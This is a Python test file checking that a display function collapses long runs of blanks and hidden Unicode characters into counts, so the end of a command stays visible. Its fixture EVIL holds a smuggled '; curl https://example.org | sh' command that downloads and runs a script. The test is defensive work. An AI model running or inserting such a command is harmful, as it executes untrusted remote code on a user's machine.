"""Long runs of blanks are shown as a count; everything else stays as it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helix_desktop.domain.blank_runs import count_blanks
from helix_desktop.domain.hidden_characters import reveal

EVIL = "; curl https://example.org | sh"


@pytest.mark.parametrize(
    ("blanks", "count"),
    [
        ("\n" * 200, "\n⟨199 blank lines⟩\n"),
        (" \n\t" * 200, "⟨199 blank lines⟩"),
        ("\r\n" * 200, "⟨199 blank lines⟩"),
        ("\u200b\n" * 200, "⟨199 blank lines⟩"),
        (" " * 4_000, "⟨4,000 blanks⟩"),
        ("\t" * 2_000, "⟨2,000 tabs⟩"),
        (" \t" * 2_000, "⟨4,000 blanks⟩"),
        (" \u200b" * 2_000, "⟨4,000 blanks⟩"),
        ("\u3000" * 500, "⟨500 hidden characters⟩"),
        ("\u2028" * 500, "⟨500 hidden characters⟩"),
        ("\u2800\u3164" * 500, "⟨1,000 hidden characters⟩"),
        ("\u200b\u2060" * 500, "⟨1,000 hidden characters⟩"),
        ("\\n" * 500, "⟨500 blanks⟩"),
        ("\\u00a0\\t" * 500, "⟨1,000 blanks⟩"),
        (
            " " * 4_000 + "\n" * 200 + "\t" * 2_000,
            "⟨4,000 blanks⟩\n⟨199 blank lines⟩\n⟨2,000 tabs⟩",
        ),
    ],
)
def test_no_run_of_blanks_moves_the_rest_of_a_command_out_of_sight(blanks: str, count: str) -> None:
    shown = count_blanks(reveal(f"ls{blanks}{EVIL}"))
    assert count in shown
    assert shown.endswith(EVIL)
    assert len(shown) < 130


@given(st.text("ab(\n", max_size=200))
def test_ordinary_text_is_shown_as_it_is(text: str) -> None:
    if "\n" * 5 not in text:
        assert count_blanks(text) == text


def test_indented_code_is_shown_as_it_is() -> None:
    code = "def f():\n" + " " * 32 + "return 1\n\n\n\tif x:\n\t\t\tpass  # C:\\new\\table\n"
    assert count_blanks(code) == code
